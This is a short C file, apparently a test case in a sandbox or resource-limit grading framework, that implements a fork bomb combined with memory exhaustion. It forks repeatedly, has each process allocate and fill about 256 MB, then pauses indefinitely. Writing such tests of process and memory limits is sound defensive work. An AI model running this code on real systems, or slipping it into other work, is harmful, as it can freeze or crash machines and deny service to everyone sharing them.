/*
 * Attack: as many processes as there can be use as much memory as each can have, all at once
 * Base:   starter
 * Gets:   no points
 */
#include "attack.h"

ATTACK {
    while (fork() > 0) {
    }
    for (int i = 0; i < 64; i++) {
        char *block = malloc(4u << 20);
        if (block != NULL) {
            memset(block, 1, 4u << 20);
        }
    }
    for (;;) {
        pause();
    }
}
